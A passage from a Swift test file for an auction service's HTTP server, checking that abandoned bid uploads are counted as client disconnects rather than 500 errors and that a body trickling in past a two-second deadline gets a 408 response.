                #expect(try await gavel.request(.get, "/metrics").text.contains("gavel_events_streams_open 2"))
                reopened.close()
                second.close()
            }
        }

        @Test("a client that leaves half-way is counted apart, never as a 500; a body trickling in is cut off at the deadline with 408")
        func disconnectsAndSlowBodies() async throws {
            try await withGavel(live: true, configure: { $0.bodyTimeout = .seconds(2) }) { gavel in
                let lot = try await OpenLot.start(gavel, bidders: 1)
                let port = try #require(gavel.port)
                let body = #"{"maxAmount": 6500000}"#
                for _ in 0..<5 {
                    let connection = try RawHTTPConnection(port: port)
                    connection.send(
                        "POST /v1/lots/\(lot.lotId)/bids HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer \(lot.bidders[0].token)\r\n"
                            + "Content-Type: application/json\r\nContent-Length: \(body.utf8.count)\r\n\r\n" + String(body.prefix(5)))
                    try await Task.sleep(for: .milliseconds(50))
                    connection.closeConnection()
                }
                // One byte every half second: never idle, but past the two-second deadline.
                let slow = try RawHTTPConnection(port: port)
                defer { slow.closeConnection() }
                slow.send(
                    "POST /v1/lots/\(lot.lotId)/bids HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer \(lot.bidders[0].token)\r\n"
                        + "Content-Type: application/json\r\nContent-Length: \(body.utf8.count)\r\n\r\n")
                let started = ContinuousClock.now
                let trickle = Task {
                    for character in body {
                        try await Task.sleep(for: .milliseconds(500))
                        slow.send(String(character))
                    }
                }
                let answer = await slow.receive()
                let waited = ContinuousClock.now - started
                trickle.cancel()
                #expect(answer.hasPrefix("HTTP/1.1 408"), "\(answer)")
                #expect(waited < .seconds(4), "answered after \(waited)")
                #expect(try await gavel.count("lot_maxima") == 0)
                try await Task.sleep(for: .milliseconds(300))
                let metrics = try await gavel.request(.get, "/metrics").text
                let bidLines = metrics.split(separator: "\n").filter { $0.hasPrefix("gavel_http_requests_total") && $0.contains("bids") }
                #expect(!bidLines.contains { $0.contains(#"status="500""#) }, "\(bidLines)")
                #expect(metrics.contains("gavel_http_client_disconnects_total 5"), "\(metrics.split(separator: "\n").filter { $0.contains("disconnect") })")
            }
        }
    }
}
